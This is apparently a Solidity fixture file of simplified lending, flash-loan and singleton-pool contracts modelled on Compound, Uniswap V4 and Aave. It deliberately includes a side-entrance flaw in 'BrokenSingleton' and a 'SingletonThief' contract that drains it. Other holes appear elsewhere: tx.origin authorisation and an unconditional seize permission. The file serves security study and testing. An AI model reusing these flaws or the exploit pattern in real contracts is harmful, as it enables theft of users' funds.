// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IToken} from "./Markets.sol";

interface IComptroller {
    function borrowAllowed(address, uint256) external returns (bool);
    function seizeAllowed(address, address) external returns (bool);
    function enter(address) external;
    function members(address, uint256) external view returns (address);
}

/// A market as Compound's: it asks the comptroller, which asks every market of the account, this one too.
contract CMarket {
    IComptroller private immutable comptroller;
    IToken public immutable token;
    uint256 public price;
    uint256 private immutable index;
    mapping(address => uint256) public supplied;
    mapping(address => uint256) public owed;
    mapping(address => uint256) public touched;
    address private owner = msg.sender;

    event Accrued(address indexed who, uint256 block_);

    constructor(IComptroller comptroller_, IToken token_, uint256 price_) {
        (comptroller, token, price, index) = (comptroller_, token_, price_, 0);
    }

    function setPrice(uint256 price_) external {
        require(msg.sender == owner);
        price = price_;
    }

    function accrue(address who) public {
        touched[who] = block.number;
        emit Accrued(who, block.number);
    }

    function snapshot(address who) external view returns (uint256, uint256) {
        return ((supplied[who] * price) / 1e18, (owed[who] * price) / 1e18);
    }

    function supply(uint256 amount) external {
        comptroller.enter(msg.sender);
        supplied[msg.sender] += amount;
        require(token.transferFrom(msg.sender, address(this), amount));
    }

    function withdraw(uint256 amount) external {
        supplied[msg.sender] -= amount;
        require(comptroller.borrowAllowed(msg.sender, 0), "shortfall");
        accrue(msg.sender);
        require(token.transfer(msg.sender, amount));
    }

    function borrow(uint256 amount) external {
        require(comptroller.borrowAllowed(msg.sender, (amount * price) / 1e18), "shortfall");
        owed[msg.sender] += amount;
        accrue(msg.sender);
        require(token.transfer(msg.sender, amount));
    }

    function repay(uint256 amount) external {
        require(token.transferFrom(msg.sender, address(this), amount));
        owed[msg.sender] -= amount;
    }

    function liquidate(address who, uint256 amount, CMarket other) external {
        require(!comptroller.borrowAllowed(who, 0), "healthy");
        accrue(who);
        require(token.transferFrom(msg.sender, address(this), amount));
        owed[who] -= amount;
        other.seize(who, msg.sender, (amount * price * 108) / (other.price() * 100));
        accrue(who);
    }

    function seize(address who, address to, uint256 amount) external {
        require(comptroller.seizeAllowed(msg.sender, who));
        supplied[who] -= amount;
        supplied[to] += amount;
        comptroller.enter(to);
    }
}

/// Asks every market of an account what it holds and owes there.
contract Comptroller {
    CMarket[] private markets;
    address private owner = msg.sender;
    mapping(address => uint256) public entered;

    function list(CMarket market) external {
        require(msg.sender == owner);
        markets.push(market);
    }

    function enter(address who) external {
        entered[who] = block.number;
    }

    function borrowAllowed(address who, uint256 more) public returns (bool) {
        uint256 has;
        uint256 owes = more;
        for (uint256 i = 0; i < markets.length; i++) {
            markets[i].accrue(who);
            (uint256 held, uint256 owed) = markets[i].snapshot(who);
            (has, owes) = (has + held, owes + owed);
        }
        entered[who] = block.number;
        return owes <= (has * 3) / 4;
    }

    function seizeAllowed(address market, address who) external returns (bool) {
        CMarket(market).snapshot(who);
        entered[who] = block.number;
        return true;
    }
}

/// A singleton as Uniswap V4's manager: everything inside one call, and at its end nobody may owe anything.
contract Singleton {
    mapping(address => uint256) public reserves;
    mapping(address => mapping(address => uint256)) public pools;
    address private user;
    mapping(address => int256) private delta;
    uint256 private open;

    function fund(address token, address pool, uint256 amount) external {
        require(IToken(token).transferFrom(msg.sender, address(this), amount));
        pools[pool][token] += amount;
        reserves[token] += amount;
    }

    function unlock(bytes calldata data) external returns (bytes memory told) {
        require(user == address(0), "locked");
        user = msg.sender;
        (bool ok, bytes memory result) = msg.sender.call(abi.encodeWithSignature("unlockCallback(bytes)", data));
        require(ok, "callback");
        require(open == 0, "not settled");
        user = address(0);
        return result;
    }

    function swap(address pool, address into, address from, uint256 amount) external returns (uint256 out) {
        require(msg.sender == user);
        out = (pools[pool][from] * amount * 997) / (pools[pool][into] * 1000 + amount * 997);
        pools[pool][into] += amount;
        pools[pool][from] -= out;
        _owe(into, -int256(amount));
        _owe(from, int256(out));
    }

    function take(address token, address to, uint256 amount) external {
        require(msg.sender == user);
        _owe(token, -int256(amount));
        reserves[token] -= amount;
        require(IToken(token).transfer(to, amount));
    }

    function settle(address token) external {
        require(msg.sender == user);
        uint256 held = IToken(token).balanceOf(address(this));
        _owe(token, int256(held - reserves[token]));
        reserves[token] = held;
    }

    function _owe(address token, int256 change) private {
        int256 before = delta[token];
        delta[token] = before + change;
        if (before == 0 && change != 0) open += 1;
        if (before != 0 && before + change == 0) open -= 1;
    }
}

interface ISingleton {
    function unlock(bytes calldata) external returns (bytes memory);
    function swap(address, address, address, uint256) external returns (uint256);
    function take(address, address, uint256) external;
    function settle(address) external;
}

/// Swaps, or borrows for a moment, inside the singleton's call.
contract SingletonUser {
    ISingleton private singleton;

    function swap(ISingleton singleton_, address pool, address into, address from, uint256 amount, uint256 loan) external {
        singleton = singleton_;
        IToken(into).transferFrom(msg.sender, address(this), amount);
        singleton.unlock(abi.encode(pool, into, from, amount, loan));
        IToken(from).transfer(msg.sender, IToken(from).balanceOf(address(this)));
    }

    function unlockCallback(bytes calldata data) external returns (bytes memory) {
        (address pool, address into, address from, uint256 amount, uint256 loan) =
            abi.decode(data, (address, address, address, uint256, uint256));
        if (loan > 0) {
            singleton.take(from, address(this), loan);
            IToken(from).transfer(address(singleton), loan);
            singleton.settle(from);
        }
        uint256 out = singleton.swap(pool, into, from, amount);
        singleton.take(from, address(this), out);
        IToken(into).transfer(address(singleton), amount);
        singleton.settle(into);
        return "";
    }
}

/// Lends within one call, and lets a deposit of the borrowed money pay the debt too (a side entrance).
contract BrokenSingleton {
    mapping(address => mapping(address => uint256)) public held;

    function deposit(IToken token, uint256 amount) external {
        require(token.transferFrom(msg.sender, address(this), amount));
        held[msg.sender][address(token)] += amount;
    }

    function withdraw(IToken token, uint256 amount) external {
        held[msg.sender][address(token)] -= amount;
        require(token.transfer(msg.sender, amount));
    }

    function unlock(IToken token, uint256 amount) external {
        uint256 before = token.balanceOf(address(this));
        require(token.transfer(msg.sender, amount));
        (bool ok, ) = msg.sender.call(abi.encodeWithSignature("unlockCallback(bytes)", abi.encode(token, amount)));
        require(ok, "callback");
        require(token.balanceOf(address(this)) >= before, "not settled");
    }
}

/// Pays the loan back as a deposit, and takes the deposit.
contract SingletonThief {
    function own_rob(BrokenSingleton manager, IToken token, uint256 amount) external {
        token.approve(address(manager), type(uint256).max);
        manager.unlock(token, amount);
        manager.withdraw(token, amount);
        token.transfer(tx.origin, token.balanceOf(address(this)));
    }

    function unlockCallback(bytes calldata data) external {
        (IToken token, uint256 amount) = abi.decode(data, (IToken, uint256));
        BrokenSingleton(msg.sender).deposit(token, amount);
    }
}

interface IAavePool {
    function supply(address, uint256, address, uint16) external;
    function withdraw(address, uint256, address) external returns (uint256);
    function flashLoanSimple(address, address, uint256, bytes calldata, uint16) external;
    function liquidationCall(address, address, address, uint256, bool) external;
}

/// Borrows from Aave for the length of a call, and uses Aave itself meanwhile.
contract AaveUser {
    IAavePool private immutable pool;

    constructor(IAavePool pool_) {
        pool = pool_;
    }

    /// With `who` nobody, the loan is supplied and withdrawn again; otherwise it liquidates that account.
    function flash(IToken asset, uint256 amount, IToken pledged, address who) external {
        asset.approve(address(pool), type(uint256).max);
        pool.flashLoanSimple(address(this), address(asset), amount, abi.encode(pledged, who), 0);
    }

    function executeOperation(address asset, uint256 amount, uint256, address, bytes calldata data) external returns (bool) {
        (address pledged, address who) = abi.decode(data, (address, address));
        if (who == address(0)) {
            pool.supply(asset, amount, address(this), 0);
            pool.withdraw(asset, amount, address(this));
        } else {
            pool.liquidationCall(pledged, asset, who, amount, false);
        }
        return true;
    }
}

/// A singleton of which liquidity may be taken out within its call, as of Uniswap V4's manager: no share is burnt, nothing comes in.
contract PositionManager {
    mapping(address => mapping(address => uint256)) public positions;
    address private user;

    function provide(IToken token, uint256 amount) external {
        require(token.transferFrom(msg.sender, address(this), amount));
        positions[msg.sender][address(token)] += amount;
    }

    function unlock(bytes calldata data) external {
        require(user == address(0), "locked");
        user = msg.sender;
        (bool ok, ) = msg.sender.call(abi.encodeWithSignature("unlockCallback(bytes)", data));
        require(ok, "callback");
        user = address(0);
    }

    function leave(address owner, IToken token, uint256 amount) external {
        require(msg.sender == user && owner == tx.origin, "owner");
        positions[owner][address(token)] -= amount;
        require(token.transfer(owner, amount));
    }
}

/// Takes its owner's liquidity out.
contract PositionUser {
    function leave(PositionManager manager, IToken one, IToken other, uint256 amount) external {
        manager.unlock(abi.encode(one, other, amount));
    }

    function unlockCallback(bytes calldata data) external {
        (IToken one, IToken other, uint256 amount) = abi.decode(data, (IToken, IToken, uint256));
        PositionManager(msg.sender).leave(tx.origin, one, amount);
        PositionManager(msg.sender).leave(tx.origin, other, amount);
    }
}
